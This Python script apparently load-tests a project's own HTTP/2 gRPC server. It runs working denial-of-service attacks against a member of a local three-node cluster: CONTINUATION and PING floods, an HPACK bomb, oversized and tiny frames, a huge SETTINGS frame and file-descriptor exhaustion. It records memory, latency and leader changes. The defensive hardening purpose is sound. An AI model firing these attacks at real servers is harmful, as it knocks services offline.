"""Hostile HTTP/2 clients against one member of a live 3-member cluster (issue 14, part 3):
for each attack, the attacked member's peak RSS, the longest time a probe client (serial
serializable Range calls on a connection of its own) waited for an answer, the leader changes
(raft terms before/after, on every member) and what the attacker got back (GOAWAY/RST codes).

    python3 scripts/attack_h2.py                       # every attack, this checkout's code
    python3 scripts/attack_h2.py --repo /work/base ping_flood tiny_frames
    python3 scripts/attack_h2.py --url http://127.0.0.1:2379 --pid 1234 hpack_bomb

With --repo (default: this checkout) each attack gets a fresh cluster started from that
checkout (PYTHONPATH=repo), etcd's default heartbeat/election (100/1000 ms); the leader is the
member attacked. With --url/--pid an already running member is attacked instead.
"""
from __future__ import annotations

import argparse
import os
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Callable

import grpc
import psutil

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "tests" / "node"))
from shardkv.api.etcdserverpb import rpc_pb2 as pb  # noqa: E402
from shardkv.api.etcdserverpb import rpc_pb2_grpc as rpc  # noqa: E402
from shardkv.grpcwire import http2 as h2  # noqa: E402

ATTACK_SECONDS = 15.0  # each attack's longest run
RSS_CAP = 4 << 30  # an attack stops early once the member holds this much (a shared machine)
TOO_BIG = threading.Event()  # set when the member reached RSS_CAP
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
         7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


# --- raw HTTP/2 ---------------------------------------------------------------------------------


def block(path: bytes) -> bytes:
    return b"".join(h2.literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def connect(addr: tuple[str, int], settings: list[tuple[int, int]] = ()) -> socket.socket:
    s = socket.create_connection(addr, timeout=5)
    s.sendall(h2.PREFACE + h2.settings(list(settings)))
    s.settimeout(2)
    return s


def send(s: socket.socket, data: bytes) -> bool:
    """False once the server stops taking our bytes (or the connection is gone)."""
    try:
        s.sendall(data)
        return True
    except OSError:
        return False


def outcome(socks: list[socket.socket], limit: int = 8 << 20) -> str:
    """What the server answered on these connections: GOAWAY and RST_STREAM codes seen."""
    seen: dict[str, int] = {}
    for s in socks:
        buf = b""
        s.settimeout(0.5)
        try:
            while len(buf) < limit:
                data = s.recv(1 << 20)
                if not data:
                    seen["closed"] = seen.get("closed", 0) + 1
                    break
                buf += data
        except OSError:
            pass
        pos = 0
        while len(buf) - pos >= 9:
            length, kind, flags, sid = h2.parse_head(buf, pos)
            payload = buf[pos + 9:pos + 9 + length]
            if kind == h2.GOAWAY and len(payload) >= 8:
                key = "GOAWAY " + CODES.get(struct.unpack(">I", payload[4:8])[0], "?")
                seen[key] = seen.get(key, 0) + 1
            elif kind == h2.RST_STREAM and len(payload) == 4:
                key = "RST " + CODES.get(struct.unpack(">I", payload)[0], "?")
                seen[key] = seen.get(key, 0) + 1
            pos += 9 + length
        s.close()
    return ", ".join(f"{k} x{v}" for k, v in sorted(seen.items())) or "nothing"


def until(deadline: float) -> bool:
    return time.monotonic() < deadline and not TOO_BIG.is_set()


# --- the attacks --------------------------------------------------------------------------------


def reconnecting(addr, deadline, attack: Callable[[socket.socket], None]) -> str:
    """Run ``attack`` on a connection; when the server ends it, on a new one, until the
    deadline."""
    results = []
    while until(deadline):
        s = connect(addr)
        attack(s, deadline)
        results.append(outcome([s]))
    return "; ".join(f"{r} x{results.count(r)}" for r in sorted(set(results)))


def continuation(addr, deadline) -> str:
    def attack(s: socket.socket, deadline: float) -> None:
        send(s, h2.frame(h2.HEADERS, 0, 1, block(b"/etcdserverpb.KV/Range")))
        chunk = h2.frame(h2.CONTINUATION, 0, 1, b"\x00" * 16384) * 64
        while until(deadline) and send(s, chunk):
            pass
    return reconnecting(addr, deadline, attack)


def hpack_bomb(addr, deadline) -> str:
    """Per stream: a 4 KB header added to the table, then 60 KB of one-byte references."""
    entry = b"\x40" + h2.literal(b"x-bomb", b"b" * 4000)[1:]

    def attack(s: socket.socket, deadline: float) -> None:
        sid = 1
        while until(deadline):
            frames = h2.frame(h2.HEADERS, 0, sid, block(b"/etcdserverpb.KV/Range") + entry)
            for i in range(4):
                flags = h2.END_HEADERS if i == 3 else 0
                frames += h2.frame(h2.CONTINUATION, flags, sid, b"\xbe" * 15000)
            if not send(s, frames):
                break
            sid += 2
    return reconnecting(addr, deadline, attack)


def many_streams(addr, deadline) -> str:
    """1,000 streams, each sent 2 MB of a (valid) Put without END_STREAM."""
    s = connect(addr)
    body = message(pb.PutRequest(key=b"k", value=b"v" * 1_999_000).SerializeToString())
    for i in range(1000):
        sid = 2 * i + 1
        frames = [h2.frame(h2.HEADERS, h2.END_HEADERS, sid, block(b"/etcdserverpb.KV/Put"))]
        frames += [h2.frame(h2.DATA, 0, sid, body[j:j + 16384])
                   for j in range(0, len(body) - 16384, 16384)]
        if not until(deadline) or not send(s, b"".join(frames)):
            break
    return outcome([s])


def big_frames(addr, deadline) -> str:
    """60 connections, each announcing a 16 MiB frame and sending 15 MB of it."""
    socks = []
    for _ in range(60):
        s = connect(addr)
        socks.append(s)
        if not send(s, struct.pack(">BHBBI", 0xFF, 0xFFFF, h2.DATA, 0, 1)):
            continue
        for _ in range(15):
            if not until(deadline) or not send(s, b"x" * 1_000_000):
                break
    return outcome(socks)


def frame_size_zero(addr, deadline) -> str:
    """SETTINGS_MAX_FRAME_SIZE=0, then a call: is it answered?"""
    s = connect(addr, [(h2.SETTINGS_MAX_FRAME_SIZE, 0)])
    req = message(pb.RangeRequest(key=b"probe", serializable=True).SerializeToString())
    send(s, h2.frame(h2.HEADERS, h2.END_HEADERS, 1, block(b"/etcdserverpb.KV/Range"))
         + h2.frame(h2.DATA, h2.END_STREAM, 1, req))
    return outcome([s])


def ping_flood(addr, deadline) -> str:
    s = connect(addr)
    chunk = h2.frame(h2.PING, 0, 0, b"12345678") * 4000
    while until(deadline) and send(s, chunk):
        pass
    return outcome([s], limit=1 << 20)


def tiny_frames(addr, deadline) -> str:
    """SETTINGS_MAX_FRAME_SIZE=1 and big windows, then a 1 MiB read, four times."""
    s = connect(addr, [(h2.SETTINGS_MAX_FRAME_SIZE, 1),
                       (h2.SETTINGS_INITIAL_WINDOW_SIZE, h2.MAX_WINDOW)])
    send(s, h2.window_update(0, h2.MAX_WINDOW - h2.DEFAULT_WINDOW))
    req = message(pb.RangeRequest(key=b"big").SerializeToString())
    for i in range(4):
        send(s, h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, block(b"/etcdserverpb.KV/Range"))
             + h2.frame(h2.DATA, h2.END_STREAM, 2 * i + 1, req))
    time.sleep(max(0.0, deadline - time.monotonic()) / 2)
    return outcome([s], limit=64 << 20)


def settings_600k(addr, deadline) -> str:
    """1,000 streams open, then one 600 KB SETTINGS frame (100,000 window changes)."""
    s = connect(addr)
    send(s, b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1,
                              block(b"/etcdserverpb.KV/Put")) for i in range(1000)))
    pairs = [(h2.SETTINGS_INITIAL_WINDOW_SIZE, 65535 + i % 2) for i in range(100_000)]
    send(s, h2.settings(pairs))
    time.sleep(2)
    return outcome([s])


def fd_limit(addr, deadline) -> str:
    """Client connections until the member is out of file descriptors (it runs with a limit of
    1,024 here), held; new ones keep coming."""
    socks: list[socket.socket] = []
    refused = 0
    while until(deadline):
        try:
            socks.append(socket.create_connection(addr, timeout=1))
        except OSError:
            refused += 1
            time.sleep(0.01)
        if len(socks) >= 3000:
            time.sleep(0.05)
    for s in socks:
        s.close()
    return f"{len(socks)} connections made, {refused} failed"


ATTACKS: dict[str, Callable] = {f.__name__: f for f in (
    continuation, hpack_bomb, many_streams, big_frames, frame_size_zero, ping_flood,
    tiny_frames, settings_600k, fd_limit)}


# --- measuring ----------------------------------------------------------------------------------


class Watcher:
    """Peak RSS of the member (psutil, every 20 ms) and the longest wait of a probe client."""

    def __init__(self, pid: int, target: str) -> None:
        self.proc = psutil.Process(pid)
        self.base = self.peak = self.proc.memory_info().rss
        self.longest = 0.0
        self.failures = 0
        self.stop = threading.Event()
        self.channel = grpc.insecure_channel(target)
        self.kv = rpc.KVStub(self.channel)
        self.kv.Range(pb.RangeRequest(key=b"probe", serializable=True), timeout=10)
        self.threads = [threading.Thread(target=self._rss, daemon=True),
                        threading.Thread(target=self._probe, daemon=True)]
        for t in self.threads:
            t.start()

    def _rss(self) -> None:
        while not self.stop.is_set():
            try:
                self.peak = max(self.peak, self.proc.memory_info().rss)
            except psutil.Error:
                return
            if self.peak > RSS_CAP:
                TOO_BIG.set()
            time.sleep(0.02)

    def _probe(self) -> None:
        while not self.stop.is_set():
            start = time.monotonic()
            try:
                self.kv.Range(pb.RangeRequest(key=b"probe", serializable=True), timeout=60)
            except grpc.RpcError:
                self.failures += 1
                time.sleep(0.1)
            self.longest = max(self.longest, time.monotonic() - start)
            time.sleep(0.005)

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(70)
        self.channel.close()


def status(url: str) -> tuple[int, int] | None:
    """(raft term, leader id) of a member, None when it does not answer."""
    try:
        with grpc.insecure_channel(url.split("://")[1]) as ch:
            r = rpc.MaintenanceStub(ch).Status(pb.StatusRequest(), timeout=5)
            return r.raftTerm, r.leader
    except grpc.RpcError:
        return None


def measure(name: str, url: str, pid: int, others: list[str], log: Path | None) -> None:
    addr = ("127.0.0.1", int(url.rsplit(":", 1)[1]))
    before = [status(u) for u in [url, *others]]
    log_size = log.stat().st_size if log else 0
    watcher = Watcher(pid, url.split("://")[1])
    start = time.monotonic()
    got = ATTACKS[name](addr, start + ATTACK_SECONDS)
    took = time.monotonic() - start
    time.sleep(2)  # what the attack left behind settles
    watcher.close()
    capped = " (stopped at the RSS cap)" if TOO_BIG.is_set() else ""
    TOO_BIG.clear()
    after = [status(u) for u in [url, *others]]
    alive = psutil.pid_exists(pid) and psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    terms = [f"{b[0] if b else '-'}->{a[0] if a else '-'}" for b, a in zip(before, after)]
    grown = (log.stat().st_size - log_size) if log else 0
    print(f"{name:16} peak RSS +{(watcher.peak - watcher.base) / 2**20:7.1f} MiB "
          f"(base {watcher.base / 2**20:.0f})  longest probe wait {watcher.longest:6.2f} s "
          f"({watcher.failures} failed)  terms {' '.join(terms)}  alive={alive}  "
          f"log +{grown / 1024:.0f} KiB  attack {took:.1f} s{capped}: {got}", flush=True)


def run_on_cluster(repo: Path, name: str) -> None:
    import harness

    os.environ["PYTHONPATH"] = str(repo)
    os.chdir(repo)  # python -m puts the working directory first on the path
    with tempfile.TemporaryDirectory() as tmp:
        cluster = harness.make_cluster(Path(tmp), 3, ["--heartbeat-interval", "100",
                                                      "--election-timeout", "1000"])
        try:
            for n in cluster.nodes:
                if name == "fd_limit":
                    start_with_fd_limit(n, 1024)
                else:
                    n.start()
            harness.wait_ready(cluster)
            if name == "tiny_frames":
                with grpc.insecure_channel(cluster.nodes[0].client_url.split("://")[1]) as ch:
                    rpc.KVStub(ch).Put(pb.PutRequest(key=b"big", value=b"x" * (1 << 20)),
                                       timeout=10)
            leader_id = next(s for s in (status(n.client_url) for n in cluster.nodes) if s)[1]
            ids = {}
            for n in cluster.nodes:
                with grpc.insecure_channel(n.client_url.split("://")[1]) as ch:
                    ids[rpc.MaintenanceStub(ch).Status(pb.StatusRequest(),
                                                       timeout=5).header.member_id] = n
            target = ids[leader_id]
            others = [n.client_url for n in cluster.nodes if n is not target]
            measure(name, target.client_url, target.proc.pid, others, target.log_path)
        finally:
            cluster.close()


def start_with_fd_limit(node, limit: int) -> None:
    """harness.Node.start, with the member's open files limited (soft and hard)."""
    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))

    with open(node.log_path, "ab") as log:
        node.proc = subprocess.Popen([sys.executable, "-m", "shardkv.node.cli", *node.args],
                                     stdout=log, stderr=subprocess.STDOUT,
                                     start_new_session=True, preexec_fn=limited)
    node.starts += 1


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attacks", nargs="*", help=f"some of: {', '.join(ATTACKS)} (default: all)")
    p.add_argument("--repo", type=Path, default=REPO,
                   help="checkout whose members are started (default: this one)")
    p.add_argument("--url", help="attack this running member instead (with --pid)")
    p.add_argument("--pid", type=int, help="the running member's process id (for its RSS)")
    args = p.parse_args()
    names = args.attacks or list(ATTACKS)
    unknown = [n for n in names if n not in ATTACKS]
    if unknown:
        p.error(f"unknown attacks: {unknown}")
    print(f"# {args.url or args.repo}", flush=True)
    for name in names:
        if args.url:
            measure(name, args.url, args.pid, [], None)
        else:
            run_on_cluster(args.repo.resolve(), name)


if __name__ == "__main__":
    main()
